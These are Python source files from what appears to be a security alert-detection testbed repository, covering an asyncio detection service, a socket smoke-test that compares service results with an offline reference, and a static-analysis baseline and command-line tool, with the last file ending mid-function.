                        signum, self.request_shutdown, signal.Signals(signum).name
                    )
                except (NotImplementedError, RuntimeError, ValueError):
                    # Not the main thread (tests) or unsupported platform.
                    break
        if ready is not None:
            ready(self)
        await self._stopped.wait()

    def request_shutdown(self, reason: str = "") -> None:
        """Trigger graceful shutdown; safe from signal handlers/threads."""
        if self._loop is None:
            return
        self._loop.call_soon_threadsafe(
            lambda: self._loop.create_task(self.shutdown(reason))
        )

    async def shutdown(self, reason: str = "") -> None:
        """Drain everything admitted, final-checkpoint, stop serving."""
        if self._stopping:
            await self._stopped.wait()
            return
        self._stopping = True
        self.shutdown_reason = reason or "shutdown"
        if self._server is not None:
            self._server.close()
        if self._ticker_task is not None:
            self._ticker_task.cancel()
        for task in list(self._conn_tasks):
            task.cancel()
        # The stop marker rides the FIFO behind everything already
        # acknowledged: reaching it is the drain guarantee.
        future = self._loop.create_future()
        item = _WorkItem(kind="stop", future=future)
        if self._consumer_task is not None and self._consumer_task.done():
            # Crashed consumer (see _on_consumer_exit): don't enqueue
            # a marker nothing will ever reach.
            self._resolve(item, ("error", "consumer not running"))
        else:
            self._queue.put_nowait(item)
        await future
        if self._consumer_task is not None:
            with contextlib.suppress(BaseException):
                await self._consumer_task
        if self._server is not None:
            with contextlib.suppress(Exception):
                await self._server.wait_closed()
        self._stopped.set()

    def _on_consumer_exit(self, task: asyncio.Task) -> None:
        """Fail-stop backstop for a consumer death outside _consume's
        catch-all (cancellation, a fatal BaseException).

        Once the consumer is gone nothing queued will ever be
        processed: stop pretending -- refuse new work, fail every
        queued waiter so barrier clients and shutdown() unblock
        instead of hanging, and release ``serve_forever``.
        """
        if task.cancelled():
            exc: Optional[BaseException] = asyncio.CancelledError(
                "consumer task cancelled"
            )
        else:
            exc = task.exception()
        if exc is None:
            return
        detail = f"consumer crashed: {type(exc).__name__}: {exc}"
        self._stopping = True
        self.shutdown_reason = self.shutdown_reason or detail
        with contextlib.suppress(Exception):
            self.dead_letter.record(
                "consumer-crashed", "consumer", {"error": detail}
            )
        if self._server is not None:
            self._server.close()
        if self._ticker_task is not None:
            self._ticker_task.cancel()
        while not self._queue.empty():
            self._resolve(self._queue.get_nowait(), ("error", detail))
        if self._stopped is not None:
            self._stopped.set()

    # ------------------------------------------------------------------
    # Consumer: the only code that touches the pipeline
    # ------------------------------------------------------------------
    async def _consume(self) -> None:
        while True:
            item = await self._queue.get()
            try:
                stop = self._process(item)
            except Exception as exc:
                # _process contains the failures it expects; anything
                # escaping is a bug.  A dead consumer would silently
                # turn every later ack into a false durability promise
                # (and deadlock shutdown on the stop marker), so
                # contain it: journal, fail the item's waiter, and
                # keep the loop alive.
                stop = self._contain_consumer_error(item, exc)
            finally:
                self._queue.task_done()
            if stop:
                break

    def _contain_consumer_error(self, item: _WorkItem, exc: BaseException) -> bool:
        self.consumer_errors += 1
        self.dead_letter.record(
            "consumer-error",
            item.kind,
            {
                "error": f"{type(exc).__name__}: {exc}",
                "traceback": traceback.format_exc(),
            },
        )
        self._resolve(item, ("error", f"{type(exc).__name__}: {exc}"))
        self._inflight = None
        with contextlib.suppress(Exception):
            self._drain_stale_tickets()
        # A stop marker still stops, even when its processing failed:
        # shutdown() is awaiting it.
        return item.kind == "stop"

    def _process(self, item: _WorkItem) -> bool:
        if item.conn_id in self._conn_depth:
            self._conn_depth[item.conn_id] -= 1
        if item.kind in ("alerts", "raw"):
            self._finish_inflight()
            item.stage_before = dict(self.pipeline.stats.stage_seconds)
            try:
                if item.kind == "alerts":
                    self.pipeline.submit_alerts(list(item.alerts))
                else:
                    self.pipeline.submit_raw(list(item.records))
            except Exception as exc:
                self._dead_letter_batch(item, exc)
                self._drain_stale_tickets()
                return False
            self._inflight = item
            if self._queue.empty():
                self._finish_inflight()
            return False
        # Barrier ops quiesce the in-flight batch first.
        self._finish_inflight()
        if item.kind == "control":
            try:
                if item.verb == "reset_entity":
                    self.pipeline.reset_entity(item.entity)
                elif item.verb == "reset":
                    self.pipeline.reset_detectors()
                elif item.verb == "reopen":
                    self.pipeline.reopen_detectors()
            except Exception as exc:
                self.control_failures += 1
                self.dead_letter.record(
                    "control-failed",
                    "control",
                    {"verb": item.verb, "entity": item.entity, "error": str(exc)},
                )
            return False
        if item.kind == "reshard":
            try:
                result = self.reshards.reshard(item.n_shards)
                self._resolve(item, ("ok", {"reshard": result}))
            except Exception as exc:
                self._resolve(item, ("error", f"{type(exc).__name__}: {exc}"))
            return False
        if item.kind == "checkpoint":
            self._resolve(item, self._take_checkpoint())
            return False
        if item.kind == "detections":
            self._resolve(item, ("ok", self._detections_result(item.since)))
            return False
        if item.kind == "drain":
            self._resolve(item, ("ok", self._drain_result()))
            return False
        if item.kind == "stop":
            final: Optional[Tuple[str, object]] = None
            if self.store is not None:
                final = self._take_checkpoint()
            self._resolve(
                item,
                (
                    "ok",
                    {
                        "reason": self.shutdown_reason,
                        "drained": self._drain_result(),
                        "final_checkpoint": final[1] if final and final[0] == "ok" else None,
                    },
                ),
            )
            return True
        return False

    def _finish_inflight(self) -> None:
        """Collect the in-flight detection batch, if any, and account it."""
        item = self._inflight
        if item is None:
            return
        self._inflight = None
        try:
            detections = self.pipeline.collect_detections()
        except (ShardWorkerError, ShardRecoveryError) as exc:
            self._dead_letter_batch(item, exc)
            self._drain_stale_tickets()
            return
        self._e2e_latency.append(time.perf_counter() - item.enqueued)
        for stage, total in self.pipeline.stats.stage_seconds.items():
            delta = total - item.stage_before.get(stage, 0.0)
            if delta > 0.0:
                self._stage_latency.setdefault(
                    stage, deque(maxlen=self.config.latency_window)
                ).append(delta)
        self.batches_processed += 1
        self.alerts_processed += len(item.alerts)
        self.records_processed += len(item.records)
        self.detections_emitted += len(detections)

    def _drain_stale_tickets(self) -> None:
        """Never leave a submitted batch uncollected after a failure."""
        guard = 0
        while self.pipeline.inflight_detection_batches and guard < 64:
            guard += 1
            try:
                self.pipeline.collect_detections()
            except Exception:
                pass

    def _dead_letter_batch(self, item: _WorkItem, exc: BaseException) -> None:
        """Contain a batch-level failure: journal it, keep serving."""
        self.failed_batches += 1
        payload = {
            "kind": item.kind,
            "alerts": [a.to_dict() for a in item.alerts],
            "records": [
                {
                    "timestamp": r.timestamp,
                    "monitor": r.monitor.value,
                    "host": r.host,
                    "message": r.message,
                    "fields": dict(r.fields),
                }
                for r in item.records
            ],
            "error": f"{type(exc).__name__}: {exc}",
        }
        self.dead_letter.record("detection-failure", "batch", payload)

    def _take_checkpoint(self) -> Tuple[str, object]:
        if self.store is None:
            return ("error", "no checkpoint store configured")
        try:
            path = self.store.save(self.pipeline)
        except Exception as exc:
            return ("error", f"{type(exc).__name__}: {exc}")
        self.checkpoints_written += 1
        return ("ok", {"path": str(path), "checkpoints_written": self.checkpoints_written})

    def _detections_result(self, since: int) -> dict:
        detections = self.pipeline.detections_by(self.pipeline.primary_detector)
        return {
            "total": len(detections),
            "detections": [detection_to_dict(d) for d in detections[since:]],
        }

    def _drain_result(self) -> dict:
        return {
            "batches_processed": self.batches_processed,
            "failed_batches": self.failed_batches,
            "detections": self.pipeline.stats.detections,
            "queue_depth": self._queue.qsize(),
            "inflight": 0,
        }

    def _resolve(self, item: _WorkItem, result: Tuple[str, object]) -> None:
        if item.future is not None and not item.future.done():
            item.future.set_result(result)

    async def _checkpoint_ticker(self) -> None:
        """Periodic durable checkpoints, riding the FIFO like any barrier."""
        while True:
            await asyncio.sleep(self.config.checkpoint_interval)
            self._queue.put_nowait(_WorkItem(kind="checkpoint"))

    # ------------------------------------------------------------------
    # Connections
    # ------------------------------------------------------------------
    def _on_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        task = asyncio.get_running_loop().create_task(
            self._serve_connection(reader, writer)
        )
        self._conn_tasks.add(task)
        task.add_done_callback(self._conn_tasks.discard)

    async def _serve_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        conn_id = self._next_conn_id
        self._next_conn_id += 1
        self.connections_total += 1
        self._conn_depth[conn_id] = 0
        seq = 0
        try:
            while True:
                try:
                    line = await reader.readline()
                except (asyncio.LimitOverrunError, ValueError):
                    # The request line outgrew the protocol bound
                    # (StreamReader raises before decode_line could
                    # see it): reply in-protocol, then close -- the
                    # framing is lost mid-line, so the stream cannot
                    # be resynchronised.
                    seq += 1
                    writer.write(
                        encode_message(
                            error_response(
                                "protocol",
                                f"request line exceeds {MAX_LINE_BYTES} bytes",
                                seq,
                            )
                        )
                    )
                    await writer.drain()
                    break
                if not line or not line.endswith(b"\n"):
                    # EOF, or a partial line cut off by a mid-write
                    # disconnect: either way the client is gone.  Work
                    # already acked stays in the FIFO and completes.
                    break
                seq += 1
                try:
                    request = parse_request(decode_line(line))
                except ProtocolError as exc:
                    writer.write(
                        encode_message(error_response("protocol", str(exc), seq))
                    )
                    await writer.drain()
                    continue
                response = await self._dispatch(request, conn_id, seq)
                writer.write(encode_message(response))
                await writer.drain()
        except asyncio.CancelledError:
            pass
        except (ConnectionResetError, BrokenPipeError):
            pass
        except Exception:
            self.dead_letter.record(
                "connection-error", "connection", traceback.format_exc()
            )
        finally:
            # Acked-but-unprocessed items from this connection stay
            # queued; stop charging them to a departed connection.
            self._conn_depth.pop(conn_id, None)
            with contextlib.suppress(Exception):
                writer.close()
                await writer.wait_closed()

    async def _dispatch(self, request: Request, conn_id: int, seq: int) -> dict:
        op = request.op
        if op == "ping":
            return ok_response({"pong": True}, seq)
        if op == "hello":
            return ok_response(
                {
                    "server": "repro-detection-service",
                    "version": PROTOCOL_VERSION,
                    "n_shards": self.pipeline.n_shards,
                    "backend": self.pipeline.shard_backend,
                    "primary_detector": self.pipeline.primary_detector,
                },
                seq,
            )
        if op == "stats":
            return ok_response(self.stats_snapshot(), seq)
        if op == "results":
            return ok_response(self.results_snapshot(), seq)
        if op == "throttle":
            self.admission.forced_mode = (
                None if request.mode == "open" else request.mode
            )
            return ok_response({"mode": request.mode}, seq)
        if self._stopping:
            return error_response("shutting-down", "service is draining", seq)
        if op in ("batch", "raw"):
            depth = self._queue.qsize()
            conn_depth = self._conn_depth.get(conn_id, 0)
            if op == "batch":
                outcome = self.admission.admit_alerts(
                    request.alerts, depth, conn_depth
                )
            else:
                outcome = self.admission.admit_raw(request.records, depth, conn_depth)
            if not outcome.accepted:
                return error_response(
                    "overloaded",
                    f"queue at {depth}/{self.config.limits.global_capacity}",
                    seq,
                    retry_after=outcome.retry_after,
                )
            if not outcome.admitted:
                # Whole batch shed (or empty): the admission controller
                # already accounted every record, so don't spend a
                # queue slot and a connection-depth charge on a no-op
                # work item.
                return ok_response(
                    {
                        "tier": outcome.tier,
                        "admitted": 0,
                        "shed": outcome.shed,
                        "queued": self._queue.qsize(),
                    },
                    seq,
                )
            item = _WorkItem(
                kind="alerts" if op == "batch" else "raw",
                alerts=outcome.admitted if op == "batch" else (),
                records=outcome.admitted if op == "raw" else (),
                conn_id=conn_id,
                enqueued=time.perf_counter(),
            )
            self._enqueue(item, conn_id)
            return ok_response(
                {
                    "tier": outcome.tier,
                    "admitted": len(outcome.admitted),
                    "shed": outcome.shed,
                    "queued": self._queue.qsize(),
                },
                seq,
            )
        if op == "control":
            self._enqueue(
                _WorkItem(
                    kind="control",
                    verb=request.verb,
                    entity=request.entity,
                    conn_id=conn_id,
                ),
                conn_id,
            )
            return ok_response({"queued": self._queue.qsize()}, seq)
        if op in ("reshard", "checkpoint", "drain", "detections"):
            # Barrier ops (detections included: only the consumer may
            # touch the pipeline, and the barrier quiesces the in-flight
            # batch, so the reply reflects every admitted batch).
            future = self._loop.create_future()
            self._queue.put_nowait(
                _WorkItem(
                    kind=op,
                    n_shards=request.n_shards,
                    since=request.since,
                    future=future,
                )
            )
            status, payload = await future
            if status != "ok":
                return error_response(f"{op}-failed", str(payload), seq)
            if isinstance(payload, dict):
                return ok_response(payload, seq)
            return ok_response({"result": payload}, seq)
        return error_response("protocol", f"unhandled op {op!r}", seq)

    def _enqueue(self, item: _WorkItem, conn_id: int) -> None:
        if conn_id in self._conn_depth:
            self._conn_depth[conn_id] += 1
        self._queue.put_nowait(item)

    # ------------------------------------------------------------------
    # Snapshots
    # ------------------------------------------------------------------
    def stats_snapshot(self) -> dict:
        """The ``stats`` op payload: service, pipeline, and latency."""
        summary = self.pipeline.summary()
        return {
            "batches_processed": self.batches_processed,
            "alerts_processed": self.alerts_processed,
            "records_processed": self.records_processed,
            "detections_emitted": self.detections_emitted,
            "failed_batches": self.failed_batches,
            "control_failures": self.control_failures,
            "consumer_errors": self.consumer_errors,
            "connections_total": self.connections_total,
            "queue_depth": self._queue.qsize(),
            "inflight": 0 if self._inflight is None else 1,
            "n_shards": self.pipeline.n_shards,
            "backend": self.pipeline.shard_backend,
            "checkpoints_written": self.checkpoints_written,
            "dead_letter_records": self.dead_letter.count,
            "admission": self.admission.snapshot(),
            "reshards": list(self.reshards.history),
            "pipeline": {
                key: value
                for key, value in summary.items()
                if key != "stage_seconds"
            },
            "stage_seconds": summary["stage_seconds"],
            "latency": {
                "e2e": percentile_summary(self._e2e_latency),
                "stages": {
                    stage: percentile_summary(samples)
                    for stage, samples in sorted(self._stage_latency.items())
                },
            },
        }

    def results_snapshot(self) -> dict:
        """The ``results`` op payload: the full bit-identity surface.

        Callers should ``drain`` first; this reads whatever has been
        processed so far.
        """
        summary = self.pipeline.summary()
        return serialize_results(
            self.pipeline.detections_by(self.pipeline.primary_detector),
            self.pipeline.detections,
            self.pipeline.responder.notifications,
            self.pipeline.responder.actions,
            {key: summary[key] for key in COMPARED_COUNTERS},
        )


# ----------------------------------------------------------------------
# In-process harness (tests, chaos legs, benchmarks)
# ----------------------------------------------------------------------
class ServiceHandle:
    """A service running its own event loop on a daemon thread."""

    def __init__(self) -> None:
        self.service: Optional[DetectionService] = None
        self.pipeline: Optional[TestbedPipeline] = None
        self.port: Optional[int] = None
        self.thread: Optional[threading.Thread] = None
        self.error: Optional[BaseException] = None

    def client(self, **kwargs) -> ServiceClient:
        """A connected :class:`ServiceClient` for this service."""
        return ServiceClient("127.0.0.1", self.port, **kwargs)

    def stop(self, timeout: float = 60.0) -> None:
        """Graceful drain-then-checkpoint shutdown; joins the thread."""
        if self.service is not None:
            self.service.request_shutdown("handle.stop")
        if self.thread is not None:
            self.thread.join(timeout=timeout)

    def __enter__(self) -> "ServiceHandle":
        return self

    def __exit__(self, *exc_info) -> None:
        self.stop()


def start_service_in_thread(
    pipeline_factory: Callable[[], TestbedPipeline],
    config: Optional[ServiceConfig] = None,
    *,
    startup_timeout: float = 120.0,
) -> ServiceHandle:
    """Run a :class:`DetectionService` on a background thread.

    The pipeline is constructed *inside* the service thread (process
    pools and all) and closed when the service shuts down.  Returns
    once the listener is bound, with ``handle.port`` set.
    """
    handle = ServiceHandle()
    ready = threading.Event()

    def announce(service: DetectionService) -> None:
        handle.port = service.port
        ready.set()

    def runner() -> None:
        async def main() -> None:
            pipeline = pipeline_factory()
            handle.pipeline = pipeline
            service = DetectionService(pipeline, config)
            handle.service = service
            await service.serve_forever(
                install_signal_handlers=False, ready=announce
            )

        # The pipeline is closed *outside* the event loop: close() joins
        # worker processes, which must not block a coroutine
        # (staticcheck: asyncio-blocking).  Still the service thread,
        # so process pools are joined by the thread that spawned them.
        try:
            asyncio.run(main())
            if handle.pipeline is not None:
                handle.pipeline.close()
        except BaseException as exc:  # surface startup/crash to the caller
            if handle.pipeline is not None:
                with contextlib.suppress(Exception):
                    handle.pipeline.close()
            handle.error = exc
            ready.set()

    handle.thread = threading.Thread(
        target=runner, name="repro-service", daemon=True
    )
    handle.thread.start()
    if not ready.wait(timeout=startup_timeout):
        raise RuntimeError("service did not start in time")
    if handle.error is not None:
        raise RuntimeError("service failed to start") from handle.error
    return handle


__all__ = [
    "ServiceConfig",
    "DetectionService",
    "ServiceHandle",
    "start_service_in_thread",
    "percentile_summary",
]
