"""Service smoke gate: pinned campaigns over a real socket.

The CI-facing end-to-end check for the always-on service: three pinned
fuzzer campaigns are streamed to an in-process :class:`~repro.service
.server.DetectionService` over a real TCP socket -- one of them across
a live N->M reshard, one through the raw-record path -- and the
results read back through the ``results`` op must be **bit-identical**
to the offline differential-oracle reference replay
(``naive:1:serial:sync``) of the same campaign.  This is the service
analogue of the quick-fuzz gate: it proves the socket framing, the
admission path (running open), the single-consumer schedule, the
two-phase pipeline driver, and the live reshard all preserve the
repo's central determinism claim.

Run via ``python -m repro.service --smoke``.
"""

from __future__ import annotations

import json
from typing import List, Optional, Tuple

from ..core.attack_tagger import AttackTagger
from ..incidents import DEFAULT_CATALOGUE
from ..testbed.pipeline import TestbedPipeline
from ..fuzz.campaign import Campaign, CampaignComposer
from ..fuzz.oracle import (
    COMPARED_COUNTERS,
    DifferentialOracle,
    REFERENCE_CONFIG,
    ReplayResult,
    alerts_to_zeek_records,
)
from .admission import ServiceClient
from .protocol import serialize_results
from .server import ServiceConfig, start_service_in_thread


def build_service_pipeline(
    campaign: Campaign,
    *,
    engine: str = "streaming",
    n_shards: int = 2,
    backend: str = "process",
    restart_policy: str = "restore",
) -> TestbedPipeline:
    """A pipeline matching the campaign's detector hyper-parameters."""
    tagger = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE),
        engine=engine,
        max_window=campaign.max_window,
        detection_threshold=campaign.detection_threshold,
    )
    return TestbedPipeline(
        detectors={"factor_graph": tagger},
        n_shards=n_shards,
        shard_backend=backend,
        restart_policy=restart_policy,
        backoff_base=0.001,
    )


def reference_results(campaign: Campaign) -> dict:
    """The offline reference surface, serialised like the ``results`` op."""
    replay: ReplayResult = DifferentialOracle([]).replay(campaign, REFERENCE_CONFIG)
    serialized = serialize_results(
        replay.detections,
        replay.detection_log,
        replay.notifications,
        replay.actions,
        {key: replay.counters[key] for key in COMPARED_COUNTERS},
    )
    # A JSON round-trip normalises tuples/lists exactly the way the
    # socket does, so the comparison is representation-for-representation.
    return json.loads(json.dumps(serialized))


def stream_campaign(
    client: ServiceClient,
    campaign: Campaign,
    *,
    as_raw: bool = False,
    reshard_to: Optional[int] = None,
    reshard_at: Optional[int] = None,
) -> dict:
    """Drive one campaign through a connected client; return ``results``.

    ``reshard_at``/``reshard_to`` inject a live reshard before that
    event index -- the outputs must not change (the bit-identity
    contract of :meth:`TestbedPipeline.reshard`).
    """
    for index, event in enumerate(campaign.events):
        if reshard_at is not None and index == reshard_at:
            client.reshard(reshard_to)
        if event.kind == "batch":
            if as_raw:
                client.send_raw(alerts_to_zeek_records(event.alerts))
            else:
                client.send_alerts(list(event.alerts))
        elif event.kind == "reset_entity":
            client.control("reset_entity", entity=event.entity)
        elif event.kind == "reset":
            client.control("reset")
        elif event.kind == "reopen":
            client.control("reopen")
    client.drain()
    reply = client.results()
    return {
        "detections": reply["detections"],
        "detection_log": reply["detection_log"],
        "notifications": reply["notifications"],
        "actions": reply["actions"],
        "counters": reply["counters"],
    }


def _strip_trigger_attributes(results: dict) -> dict:
    """Drop trigger ``attributes`` from every serialised detection.

    Raw-driver comparisons only: the normaliser rebuilds alerts with
    attributes drawn from the Zeek record, not the campaign, so raw
    replays are exempt from attribute comparison -- exactly the
    exemption the differential oracle applies (``Alert.__eq__``
    excludes ``attributes``; the oracle's explicit attribute check
    skips ``raw_stream`` configs).  Every *compared* field still must
    match bit-for-bit.
    """

    def strip(detection: dict) -> dict:
        trigger = {k: v for k, v in detection["trigger"].items() if k != "attributes"}
        return {**detection, "trigger": trigger}

    return {
        "detections": [strip(d) for d in results["detections"]],
        "detection_log": [[name, strip(d)] for name, d in results["detection_log"]],
        "notifications": [
            {**n, "detection": strip(n["detection"])} for n in results["notifications"]
        ],
        "actions": results["actions"],
        "counters": results["counters"],
    }


def compare_results(
    expected: dict, got: dict, *, ignore_trigger_attributes: bool = False
) -> List[str]:
    """Field-level differences between two serialised result surfaces."""
    if ignore_trigger_attributes:
        expected = _strip_trigger_attributes(expected)
        got = _strip_trigger_attributes(got)
    differences = []
    for field in ("detections", "detection_log", "notifications", "actions"):
        if expected[field] != got[field]:
            length_note = f"{len(got[field])} vs {len(expected[field])} entries"
            differences.append(f"{field} diverged ({length_note})")
    for key in COMPARED_COUNTERS:
        if expected["counters"].get(key) != got["counters"].get(key):
            differences.append(
                f"counter {key}: {got['counters'].get(key)!r} "
                f"!= {expected['counters'].get(key)!r}"
            )
    return differences


def run_service_smoke(*, target_alerts: int = 120, verbose: bool = True) -> int:
    """Run the three pinned socket legs; return a process exit code."""
    composer = CampaignComposer(0, target_alerts=target_alerts)
    legs: List[Tuple[str, Campaign, dict]] = [
        (
            "alerts[streaming:2:process]",
            composer.compose(0),
            {"engine": "streaming", "n_shards": 2, "backend": "process"},
        ),
        (
            "alerts+reshard[batched:2->3:process]",
            composer.compose(1),
            {
                "engine": "batched",
                "n_shards": 2,
                "backend": "process",
                "reshard_to": 3,
            },
        ),
        (
            "raw[streaming:2:serial]",
            composer.compose(2, raw_capable=True),
            {"engine": "streaming", "n_shards": 2, "backend": "serial", "as_raw": True},
        ),
    ]
    failures = 0
    for label, campaign, spec in legs:
        expected = reference_results(campaign)
        reshard_to = spec.get("reshard_to")
        reshard_at = len(campaign.events) // 2 if reshard_to else None
        handle = start_service_in_thread(
            lambda c=campaign, s=spec: build_service_pipeline(
                c,
                engine=s["engine"],
                n_shards=s["n_shards"],
                backend=s["backend"],
            ),
            ServiceConfig(),
        )
        try:
            with handle.client() as client:
                got = stream_campaign(
                    client,
                    campaign,
                    as_raw=spec.get("as_raw", False),
                    reshard_to=reshard_to,
                    reshard_at=reshard_at,
                )
                stats = client.stats()
        finally:
            handle.stop()
        differences = compare_results(
            expected, got, ignore_trigger_attributes=spec.get("as_raw", False)
        )
        if reshard_to and stats["pipeline"]["reshard_events"] < 1:
            differences.append("reshard leg recorded no ReshardEvent")
        status = "PASS" if not differences else "FAIL"
        if verbose:
            print(
                f"[{status}] {campaign.label} {label}: "
                f"{len(got['detections'])} detections, "
                f"{stats['batches_processed']} batches"
            )
            for difference in differences:
                print(f"    {difference}")
        if differences:
            failures += 1
    if verbose:
        print(f"service smoke: {len(legs) - failures}/{len(legs)} legs identical")
    return 1 if failures else 0


__all__ = [
    "build_service_pipeline",
    "reference_results",
    "stream_campaign",
    "compare_results",
    "run_service_smoke",
]
