"""``repro.staticcheck`` — AST invariant checker for this repository.

The dynamic guarantees (bit-identical detections across the differential
matrix, byte-identical checkpoints, ack-order-equals-stream-order) are
enforced at CI time by fuzz campaigns; this package is the static
complement: project-specific rules that reject invariant-breaking code
before it runs.  See the README "Static analysis" section for the rule
catalogue, suppression syntax (``# staticcheck: disable=RULE -- reason``)
and baseline workflow.
"""

from .baseline import Baseline, BaselineDiff, DEFAULT_BASELINE
from .findings import Finding, fingerprint_findings
from .registry import Rule, all_rules, get_rule, register
from .runner import ScanResult, scan_paths, scan_source
from .suppressions import Suppression, SuppressionIndex, parse_suppressions
from .walker import FunctionInfo, ModuleModel

__all__ = [
    "Baseline",
    "BaselineDiff",
    "DEFAULT_BASELINE",
    "Finding",
    "fingerprint_findings",
    "FunctionInfo",
    "ModuleModel",
    "Rule",
    "ScanResult",
    "Suppression",
    "SuppressionIndex",
    "all_rules",
    "get_rule",
    "parse_suppressions",
    "register",
    "scan_paths",
    "scan_source",
]
