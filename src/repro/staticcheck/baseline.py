"""Committed-finding baseline: JSON ledger of accepted findings.

The baseline is the triage record: every finding in it was looked at
once, judged tolerable (or pre-existing), and committed.  CI then fails
only on findings whose fingerprint is *not* in the ledger — new debt —
while fixed findings surface as ``stale`` entries to prune with
``--write-baseline``.

Fingerprints exclude line numbers (see
:mod:`repro.staticcheck.findings`), so shifting code does not churn the
ledger; entries still carry the line recorded at write time for human
readers.
"""

from __future__ import annotations

import dataclasses
import json
import os
from typing import Dict, List, Tuple

from .findings import Finding, fingerprint_findings

BASELINE_VERSION = 1
DEFAULT_BASELINE = "staticcheck_baseline.json"


@dataclasses.dataclass
class BaselineDiff:
    """Partition of a scan against the committed ledger."""

    new: List[Finding]
    known: List[Finding]
    stale: List[dict]  # baseline entries with no matching finding


class Baseline:
    def __init__(self, entries: Dict[str, dict]) -> None:
        self.entries = entries

    def __len__(self) -> int:
        return len(self.entries)

    @classmethod
    def empty(cls) -> "Baseline":
        return cls({})

    @classmethod
    def load(cls, path: str) -> "Baseline":
        with open(path, "r", encoding="utf-8") as handle:
            payload = json.load(handle)
        version = payload.get("version")
        if version != BASELINE_VERSION:
            raise ValueError(
                f"baseline {path} has version {version!r}, "
                f"expected {BASELINE_VERSION}"
            )
        entries = {
            str(entry["fingerprint"]): entry for entry in payload.get("findings", [])
        }
        return cls(entries)

    @classmethod
    def from_findings(cls, findings: List[Finding]) -> "Baseline":
        entries: Dict[str, dict] = {}
        for finding, fingerprint in fingerprint_findings(findings):
            entry = finding.to_dict()
            entry["fingerprint"] = fingerprint
            entries[fingerprint] = entry
        return cls(entries)

    def save(self, path: str) -> None:
        ordered = sorted(
            self.entries.values(),
            key=lambda e: (e["path"], e["line"], e["col"], e["rule"]),
        )
        payload = {"version": BASELINE_VERSION, "findings": ordered}
        tmp = f"{path}.tmp"
        with open(tmp, "w", encoding="utf-8") as handle:
            json.dump(payload, handle, indent=2, sort_keys=True)
            handle.write("\n")
        os.replace(tmp, path)

    def diff(self, findings: List[Finding]) -> BaselineDiff:
        new: List[Finding] = []
        known: List[Finding] = []
        matched: set = set()
        for finding, fingerprint in fingerprint_findings(findings):
            if fingerprint in self.entries:
                known.append(finding)
                matched.add(fingerprint)
            else:
                new.append(finding)
        stale = [
            entry
            for fingerprint, entry in sorted(self.entries.items())
            if fingerprint not in matched
        ]
        return BaselineDiff(new=new, known=known, stale=stale)
