"""``python -m repro.staticcheck`` — the CI gate and triage tool.

Modes (all share the scan):

- default: scan, diff against the baseline if one exists (else treat
  every finding as new), print findings, exit 1 on new findings;
- ``--check-baseline``: same, but the baseline file is *required* —
  this is the CI invocation, and a missing ledger should fail loudly
  rather than silently accept the whole tree;
- ``--write-baseline``: accept the current findings as the new ledger.

Output is ``--format text`` (human, one ``path:line:col`` per finding)
or ``--format json`` (machine: findings + stats + baseline diff).
``--stats`` appends the coverage block — findings per rule, suppression
usage, files scanned — so the CI log shows at a glance what the gate
actually checked.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from typing import List, Optional, Sequence

from .baseline import DEFAULT_BASELINE, Baseline, BaselineDiff
from .findings import Finding
from .registry import all_rules
from .runner import META_RULES, ScanResult, scan_paths


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.staticcheck",
        description="AST invariant checker: determinism, pickle-safety, "
        "asyncio discipline, shard boundaries, semiring hygiene.",
    )
    parser.add_argument(
        "paths",
        nargs="*",
        default=["src"],
        help="files or directories to scan (default: src)",
    )
    parser.add_argument(
        "--rules",
        default="",
        help="comma-separated rule ids to run (default: all)",
    )
    parser.add_argument("--list-rules", action="store_true", help="print the rule catalogue and exit")
    parser.add_argument(
        "--baseline",
        default=DEFAULT_BASELINE,
        help=f"baseline ledger path (default: {DEFAULT_BASELINE})",
    )
    parser.add_argument(
        "--write-baseline",
        action="store_true",
        help="accept current findings as the committed baseline",
    )
    parser.add_argument(
        "--check-baseline",
        action="store_true",
        help="CI mode: the baseline file must exist; fail on new findings",
    )
    parser.add_argument(
        "--format", choices=("text", "json"), default="text", dest="output_format"
    )
    parser.add_argument(
        "--stats", action="store_true", help="print per-rule/suppression coverage stats"
    )
    return parser


def _selected_rules(spec: str):
    rules = all_rules()
    if not spec:
        return rules
    wanted = {item.strip() for item in spec.split(",") if item.strip()}
    by_id = {rule.id: rule for rule in rules}
    unknown = wanted - set(by_id)
    if unknown:
        raise SystemExit(f"unknown rule id(s): {', '.join(sorted(unknown))}")
    return [by_id[rule_id] for rule_id in sorted(wanted)]


def _print_catalogue() -> None:
    print("staticcheck rule catalogue:")
    for rule in all_rules():
        scope = ", ".join(rule.paths) if rule.paths else "all files"
        print(f"  {rule.id:<22} [{rule.severity}] ({scope})")
        print(f"      {rule.description}")
    for meta_id, description in sorted(META_RULES.items()):
        print(f"  {meta_id:<22} [meta]")
        print(f"      {description}")


def _text_report(result: ScanResult, diff: BaselineDiff, stats: bool) -> None:
    for finding in diff.new:
        marker = "NEW " if diff.known or diff.stale else ""
        print(
            f"{finding.location}: {marker}{finding.rule} [{finding.severity}] "
            f"{finding.message}"
        )
    if diff.known:
        print(f"{len(diff.known)} baselined finding(s) not shown (committed debt)")
    if diff.stale:
        print(
            f"{len(diff.stale)} stale baseline entr(ies) — fixed findings; "
            "refresh with --write-baseline"
        )
    if stats:
        _print_stats(result)
    if diff.new:
        print(f"FAIL: {len(diff.new)} new finding(s)")
    else:
        print(f"OK: no new findings ({result.files_scanned} files scanned)")


def _print_stats(result: ScanResult) -> None:
    payload = result.stats()
    print("-- stats --")
    print(f"files scanned:        {payload['files_scanned']}")
    print(f"active findings:      {payload['findings_active']}")
    print(f"suppressed findings:  {payload['findings_suppressed']}")
    for rule_id, counts in sorted(payload["per_rule"].items()):
        print(
            f"  {rule_id:<22} active={counts['active']} "
            f"suppressed={counts['suppressed']}"
        )
    sup = payload["suppressions"]
    print(
        f"suppressions:         used={sup['used']} unused={sup['unused']} "
        f"bare={sup['bare']}"
    )


def main(argv: Optional[Sequence[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    if args.list_rules:
        _print_catalogue()
        return 0
    rules = _selected_rules(args.rules)
    result = scan_paths(args.paths, rules=rules, root=os.getcwd())

    if args.write_baseline:
        Baseline.from_findings(result.findings).save(args.baseline)
        print(
            f"baseline written: {args.baseline} "
            f"({len(result.findings)} finding(s) accepted)"
        )
        if args.stats:
            _print_stats(result)
        return 0

    if os.path.exists(args.baseline):
